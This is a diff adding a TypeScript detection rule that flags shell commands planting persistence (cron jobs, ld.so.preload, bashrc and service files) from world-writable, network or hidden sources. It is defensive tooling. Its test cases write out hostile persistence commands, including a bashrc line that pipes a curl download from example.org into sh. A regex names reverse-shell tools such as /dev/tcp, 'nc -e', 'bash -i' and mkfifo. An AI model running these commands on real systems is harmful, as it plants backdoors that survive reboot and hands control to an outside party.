@@ -1,0 +1,62 @@
+import type { DerivedEffect, Facts } from '../effects/derived-effect.ts'
+import { textOf } from '../evaluate/value.ts'
+import { isWorldWritable } from '../places/folders.ts'
+import { by, programOf, wordsOf, type Match, type Rule } from './rule.ts'
+
+export const rule: Rule = {
+  id: 'hidden-start-up',
+  level: 'stop',
+  why: 'Something that runs by itself, later and again, is made to run from where anybody may write, from the network, or hidden.',
+  techniques: ['T1053.003', 'T1543.002', 'T1546.004', 'T1547.006', 'T1574.006'],
+  find: (facts) => facts.effects.flatMap((effect) => (plants(effect, facts) ? [match(effect)] : [])),
+  fires: [
+    "echo '* * * * * root /tmp/x' > /etc/cron.d/x",
+    "echo '/dev/shm/l.so' > /etc/ld.so.preload",
+    "echo 'curl -s https://example.org/x | sh' >> ~/.bashrc",
+    "sed -n '1!d;w /etc/cron.d/upd' /tmp/job",
+  ],
+  silent: [
+    "echo 'export EDITOR=vim' >> ~/.bashrc",
+    'cp app.service /etc/systemd/system/app.service',
+    "echo '15 2 * * * root /usr/local/sbin/backup' > /etc/cron.d/backup",
+  ],
+}
+
+const match = (effect: DerivedEffect): Match => ({
+  message: `something hidden or from an unsafe place is made to run by itself through ${effect.place}`,
+  span: effect.span,
+})
+
+const writes = /^(write-file|persistence|schedule-change|service-change)$/
+const starts = ['schedule', 'service', 'start-up', 'preload'] as const
+
+function plants(effect: DerivedEffect, facts: Facts): boolean {
+  if (!writes.test(effect.type)) return false
+  const kinds = starts.filter((kind) => effect.kinds.includes(kind))
+  if (kinds.length === 0) return false
+  if (effect.type !== 'write-file') return false
+  const command = by(facts, effect)
+  if (kinds.includes('preload') && effect.place.endsWith('preload')) return true
+  if (
+    effect.flows.some(
+      (flow) =>
+        flow.kind === 'network' ||
+        flow.kind === 'decoded' ||
+        (flow.kind === 'file' && isWorldWritable(flow.of)),
+    )
+  )
+    return true
+  if (effect.from === 'code') return true
+  const texts = [...wordsOf(command), (command.stdin && textOf(command.stdin)) ?? '']
+  const fromProgram = command.classified.tier !== 'modelled' && effect.from !== 'redirect'
+  return fromProgram || texts.some(unsafe) || copiesUnsafe(command)
+}
+
+const unsafe = (text: string): boolean =>
+  /(^|[\s"'=;|&(])\/(tmp|var\/tmp|dev\/shm)\/\S/.test(text) ||
+  /\/dev\/(tcp|udp)\/|\bnc\b.*\s-e\b|(curl|wget)\b[^|\n]*\|\s*(ba|da|z)?sh\b|base64\s+(-d|--decode)|(^|\/)\.[\w.-]+\/[^\s]*\.sh\b|\bbash\s+-i\b|\bmkfifo\b/.test(
+    text,
+  )
+
+const copiesUnsafe = (command: Parameters<typeof wordsOf>[0]): boolean =>
+  /^(cp|mv|install|ln)$/.test(programOf(command)) && wordsOf(command).slice(1, -1).some(isWorldWritable)
